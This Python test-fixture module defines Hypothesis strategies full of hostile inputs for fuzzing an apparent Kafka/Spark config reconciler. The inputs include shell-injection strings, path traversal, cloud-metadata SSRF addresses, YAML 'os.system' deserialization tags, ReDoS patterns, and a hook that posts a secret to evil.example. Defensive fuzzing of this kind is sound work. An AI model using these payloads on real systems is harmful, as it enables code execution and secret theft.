"""Words that a terminal, a browser, a shell, CI, YAML, Python or a regular expression could take for something else."""

from __future__ import annotations

from hypothesis import strategies as st

CANARY = "c4nary"
"""In all that would be code if somebody ran it."""

_STEERING = (
    "\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b2J", "\r", "\n", "\t",
    "\x00", "\x07", "\x08\x08\x08", "\x7f", "\x85", "\u2028", "\u2029", "\ufeff", "\u200b", "\u200d", "\u202e",
    "\u202eMLMY",
    "\u2066", "\u2069", "\U000e0041", "\ufe0f", "a\u0301\u0301", "\ud800", "\udfff", "\ufffe", "\U0010ffff",
    "\u0430dmin",
)  # fmt: skip
_CI = (
    "::set-output name=x::y", "::add-mask::x", "::error file=a,line=1::x", "::warning::x", "::stop-commands::x",
    "##[error]x", "##[set-env name=PATH]x", "##vso[task.setvariable variable=x]y", "##teamcity[message text='x']",
    "section_start:1:x\r\x1b[0K", "\n::add-mask::x", "\r\n::error::x", " ::error::x", "%0A::error::x", "[skip ci]",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "</code><script>c4nary</script>", '"><img src=x onerror=c4nary>',
    "javascript:c4nary",
    "<!--", "-->", "<![CDATA[", "</details>", "</svg>", "<style>*{}</style>", "&lt;script&gt;", "&#60;script&#62;",
    "<a href=//evil>",
    "[x](http://evil.example)", "![x](http://evil.example/x.png)", "http://evil.example", "www.evil.example",
    "@octocat", "@org/team", "#1", "GH-1", "org/repo#1", "`x`", "```\n", "~~~", "| a | b |", "\n\n# Title",
    "- [x] done",
    "**x**", "$x$", "\\", ":tada:", "[^1]", "<details open>", "closes #1", "%%{init: {}}%%", "graph TD; a-->b",
    '"]; x["',
)  # fmt: skip
_SHELL = (
    "$(touch c4nary)", "`touch c4nary`", "; touch c4nary", "| sh", "&& c4nary", "-rf /", "--help", "$IFS", "'", '"',
    "*", "~root",
    "!!", "\\'", "%s%n", "{0.__class__}", "%(c4nary)s", "${PATH}", "{{7*7}}", "${{ secrets.X }}",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "/etc/passwd", "/proc/self/environ", "/dev/zero", "/dev/stdin", "file:///etc/passwd",
    "..", ".",
    "C:\\windows", "\\\\evil\\share", "a/../../b", "/", "~", "con", "x" * 300,
)  # fmt: skip
REFERENCES = (
    "${env:PATH}", "${env:HOSTILE_SECRET}", "x${env:HOSTILE_SECRET}y", "${file:/etc/passwd}",
    "${file:/proc/self/environ}",
    "${file:../../outside}", "${env:}", "${file:}", "${env:A}${env:B}", "${unknown:x}", "${env:${env:A}}", "${",
    "$${env:A}",
)  # fmt: skip
READ_ALIKE = (
    "[::ffff:127.0.0.1]:1", "xn--80ak6aa92e:1", "169.254.169.254:80", "[fe80::1]:9092", "[::ffff:169.254.169.254]:80",
    "[fd00:ec2::254]:80", "metadata.google.internal:80", "east.example.:9092", "localhost:22",
    "[::]:9092", "[::1]:9092",
)  # fmt: skip
"""Odd or nobody's brokers, and the same host for every parser: they go where the allow-list lets them."""
ADDRESSES = (
    *READ_ALIKE,
    "evil:1,east.example:9092", "evil:1/.east.example:9092", "SASL_PLAINTEXT://evil:1", "evil@east.example:9092",
    "evil\uff0f.east.example:9092", "ea\u0455t.example:9092", "east.example:9092#", "east.example:9092?x",
    "east.example\u3002evil:9092", "east.example :9092", "east.example:9092\nevil:1", "[::1", "[::1]9092", "::1:9092",
    "east.example:0", "east.example:65536", "east.example:9_092", "east.example:\u0669092", "east.example:", ":9092",
    "-evil:1", "evil..example:1", "\u2100.example:1", "[v1.evil]:1", "[::1%25eth0]:1", "0x7f.1:1",
    "east.example\\@evil:1", "[", "]", "[]:1",
    "user:secret@east.example:9092", "a b:9092", "east.example:\uff19092", "east.example:\u00b2",
    "east.example..:9092", "2852039166:80", "0251.0376.0251.0376:80", "127.1:9092", "0:9092",
    "east.example:+9092", "east.example:09092",
    "east.example: 9092", "east.example:9092 ", "east.example:9092/../x",
    "east.example:9092;evil:1",
    "[::1%25lo]:9092", "${env:EAST}:9092", "*.example:9092", "east.example:1e3",
    "@east.example:1",
)  # fmt: skip
"""What some parser takes for ``east.example``, and another for somebody else's host."""
MODULES = (
    "antigravity:X", "this:X", "venv.__main__:X", "idlelib.idle:X", "unittest.__main__:X", "evil:X",
    "hostile.evil:Policy", "os:system",
    "builtins:exec", "subprocess:Popen", "reconciler.__main__:X", "a.b.c:D", ":", "evil", "..evil:X",
    "sitecustomize:X",
)  # fmt: skip
EXPRESSIONS = (
    "(a+)+b", "(.*)*x", "(a|a)*b", ".*a.{20}", ".*a.{14}b.*", "(.*a){25}", ".*.*.*.*.*.*x", "a*a*a*a*a*a*a*b",
    "(a?){60}a{60}",
    "(?=.*a.{9})(?=.*b.{9})(?!.*c.{9}).*", "(?:[ab]*a[ab]{12})|x.*y.*z", "(?P<x>a)(?P=x)",
    "(?i:.*\u017f)", "[^a]*" * 12,
    "(" * 200 + ")" * 200,
    "a{0,65535}", "a{99999999999}", "(?>a+)b", "a++b", "\\", "[", "(?#", "(?<=a)b", "x*" * 40,
    "((a{0,50}){0,50}){0,50}", "(a|b|ab)*c",
    ".*-.*-.*-.*-.*-.*x", "\\b.*\\b", "$^", ".*\n", "(?s).*", "[[:alpha:]]", "\\p{L}",
    "|".join("a" * n for n in range(1, 60)),
)  # fmt: skip
CLIENT_SETTINGS = (
    "plugin.library.paths", "ssl.engine.location", "ssl.engine.id", "ssl.providers", "sasl.kerberos.kinit.cmd",
    "interceptor.classes",
    "ssl.keystore.location", "ssl.key.location", "ssl.ca.location", "sasl.oauthbearer.token.endpoint.url", "debug",
    "log.cb",
    "sasl.jaas.config", "security.providers", "client.id", "bootstrap.servers", "stats_cb", "builtin.features",
    "opaque", "enable.random.seed",
    "sasl.oauthbearer.assertion.file", "https.ca.location", "statistics.interval.ms",
    "socket.connection.setup.timeout.ms",
)  # fmt: skip
SPARK_SETTINGS = (
    ("spark.driver.extraJavaOptions", f"-javaagent:{CANARY}"), ("spark.jars", "/etc/passwd"),
    ("spark.driver.extraJavaOptions=-javaagent:x -Da", "b"), ("spark.jars.packages", "evil:evil:1"),
    ("spark.plugins", "evil.Plugin"), ("spark.submit.pyFiles", "/proc/self/environ"), ("spark.pyspark.python",
    "./evil.py"),
    ("spark.executorEnv.PATH", "."), ("spark.archives", "/srv/../../tmp/evil.tar.gz#environment"),
    ("spark.eventLog.dir", "http://169.254.169.254/"), ("spark.redaction.regex", "(a+)+b"), ("spark.ui.proxyBase",
    "//evil.example"),
    ("spark.app.name", "\n::set-output name=x::y"), ("spark.yarn.queue", "@octocat <script>"),
    ("spark.authenticate.secret", "${env:EAST}"),
    ("spark.hadoop.fs.s3a.secret.key", "hunter3"), ("spark.authenticate", "false"), ("spark.driver.host",
    "evil.example"),
    ("--conf", "spark.master=local"), ("spark.", ""), ("spark.a b", "c"), ("spark.\u202ea", "b"),
    ("spark.executor.memory", "9" * 60),
)  # fmt: skip
"""Names and values: code, files, other hosts, secrets, and what Spark reads as another setting."""
HOOKS: tuple[object, ...] = (
    {"command": ["sh", "-c", f"touch {CANARY}"]}, {"command": [f"./{CANARY}"]}, {"command": []}, {"command": [""]},
    {"command": ["/bin/true", "${env:HOSTILE_SECRET}"]}, {"command": ["a\x00b"]},
    {"command": ["true"], "timeout": "9w"},
    {"http": {"url": "http://169.254.169.254/latest", "method": "GET"}},
    {"http": {"url": "https://evil.example/${env:HOSTILE_SECRET}", "method": "POST", "body": "${env:HOSTILE_SECRET}"}},
    {"http": {"url": "https://a.example\r\nx: y/", "method": "PUT", "headers": {"a\r\nb": "c\r\nd"}}},
    {"http": {"url": "https://u:hunter3@a.example/", "method": "GET", "ca": "/etc/passwd"}},
    {"http": {"url": "file:///etc/passwd", "method": "GET"}}, {"http": {"url": "https://a/", "status": 10**30}},
    {"file": {"path": "/etc/passwd", "text": "x"}}, {"file": {"path": "../../shared.yaml", "text": CANARY}},
    {"command": ["true"], "http": {"url": "https://a/"}}, {}, [], "sh",
)  # fmt: skip
DURATIONS = (
    "0s",
    "-1s",
    "9" * 400 + "w",
    "1e9s",
    "1.5h",
    "99999999999w",
    "\u0661s",
    "1 s",
    "",
    "1s\n::error::x",
    "1ms",
)
_ODD = (
    "", " ", "null", "true", "no", "0x1f", "1e999", ".inf", ".nan", "1:30", "2001-01-01", "<<", "=", "*a", "&a", "!x",
    "kafka-cluster",
    "__consumer_offsets", "__reconciler", "__mirror_offsets", "User:*", "User:", "a.b_c", "9" * 400, "-" * 250, "ﬀ",
    "İ", "ß", "K",
)  # fmt: skip
NUMBERS = (0, -1, 1, 2**31 - 1, 2**31, 2**63 - 1, 2**63, 2**64, -(2**63) - 1, 10**30, 10**400, 0.1, 1e308, -0.0, 5e-324)

_any_text = st.text(st.characters(min_codepoint=1), max_size=12)
_phrases = st.sampled_from(
    (*_STEERING, *_CI, *MARKUP, *_SHELL, *PATHS, *REFERENCES, *MODULES, *EXPRESSIONS, *CLIENT_SETTINGS, *_ODD)
)
hostile_text = st.one_of(
    _phrases,
    _phrases,
    st.builds("{}{}{}".format, st.sampled_from(("", "a", "orders ", "\n")), _phrases, st.sampled_from(("", "z", " x"))),
    st.lists(_phrases, min_size=2, max_size=4).map("".join),
    _any_text,
)
shown_text = st.one_of(
    st.sampled_from((*_STEERING, *_CI, *MARKUP, *_SHELL)),
    st.lists(st.sampled_from((*_STEERING, *_CI, *MARKUP)), min_size=1, max_size=3).map("".join),
    _any_text,
)
"""For places that take any text, where it comes out again."""

FRAGMENTS = (
    "a: &a [x, x, x]\nb: &b [*a, *a, *a, *a]\nc: &c [*b, *b, *b, *b]\nd: &d [*c, *c, *c, *c]\n" + "".join(
        f"e{n}: &e{n} [{', '.join([f'*e{n - 1}' if n else '*d'] * 9)}]\n" for n in range(8)
    ),
    "x-a: &a {" + ", ".join(f"k{n}: v" for n in range(50)) + "}\nx-b: {<<: [" + ", ".join(["*a"] * 50) + "]}\n",
    "x-self: &a [*a]\n", "x-deep: " + "[" * 3000 + "\n", "x-deep: " + "[" * 300 + "]" * 300 + "\n",
    "x-deep:\n" + "".join(f"{' ' * n}- \n" for n in range(400)),
    "x-deep: " + "{a: " * 2000 + "\n", "- " * 3000 + "x\n", "? " * 2000 + "\n",
    "x: !!python/object/apply:os.system ['touch c4nary']\n",
    "x: !!python/name:os.system c4nary\n", "x: !!python/module:antigravity c4nary\n",
    "!!python/object/new:type {args: [z, !!python/tuple [], {}]}\n",
    "x: !!binary SGVsbG8=\n", "x: !!set {a, b}\n", "x: !<tag:evil.example,2020:c4nary> y\n", "%YAML 9.9\n---\nx: 1\n",
    "%TAG ! tag:evil,2020:\n---\n!x {}\n",
    "---\nclusters: {}\n---\ntopics: {}\n", "...\n", "topics: {a: {clusters: [east]}, a: {clusters: [west]}}\n",
    "clusters: {}\nclusters: {}\n",
    "x-a: 0o777\nx-b: 1_000\nx-c: 190:20:30\nx-d: " + "9" * 5000 + "\n", "x-a: 1e" + "9" * 400 + "\n",
    "\ufeffx-a: 1\n", "x-a: \ufeff\n", "x-a: \x00\n",
    "x-a: \x1b[2J\n", "\x85x: 1\n", "x: 'a\u2028b'\n", "{" * 100, "x: |\n" + "\ta\n", "\tx: 1\n", "x: \"\\ud800\"\n",
    "x: \"\\U0010ffff\\0\\e[2J\"\n",
    "? [a, b]\n: c\n", "? {a: b}\n: c\n", "null: 1\ntrue: 2\n1: 3\n1.5: 4\n2001-01-01: 5\n",
    "x: " + "a" * 70_000 + "\n", "#" * 70_000 + "\n", ": : :\n",
    "<<<<<<< HEAD\na: 1\n=======\na: 2\n>>>>>>> x\n", "x: &" + "a" * 2000 + " 1\n", "*undefined\n",
    "x-a: &x 1\n" * 400, "@x\n", "`x`\n", "x: >-9\n  a\n", "\n" * 5000,
    '{"topics": {"a": {"clusters": ["east"], "labels": {"a": "\\u001b[2J"}}}}', "[]", "x", "''", "!!str", "&a", "~",
    "---", "--- |", "x: 2001-13-45\n", "x: 0b2\n",
    "x-a: &a {c: 1}\ntopics: {b: {<<: *a, <<: *a}}\n", "x-a: &a [1]\nx-b: {<<: *a}\n", "x-a: {<<: 1}\n",
    "<<: {topics: {}}\n",
    "x-a: &a {<<: *a}\n", "x: [.nan, -.inf, .NaN, +.inf]\n",
    "quotas: [{clusters: [east], user: a, request_percentage: .nan}]\n",
    "quotas: [{clusters: [east], user: a, request_percentage: .inf}]\n",
    "topics: {a: {clusters: [east], partitions: 0x10}}\n",
    "topics: {a: {clusters: [east], partitions: 1e1}}\n",
    "topics: {? a : {clusters: [east]}, 'a': {clusters: [west]}}\n",
    "topics: {\"\\u0061\": {clusters: [east]}, a: {clusters: [west]}}\n", "x-\u202ea: 1\nx-a: 2\n",
    "topics: {a\u0301: {clusters: [east]}, \u00e1: {clusters: [east]}}\n",
)  # fmt: skip
"""Whole files, or parts behind others."""
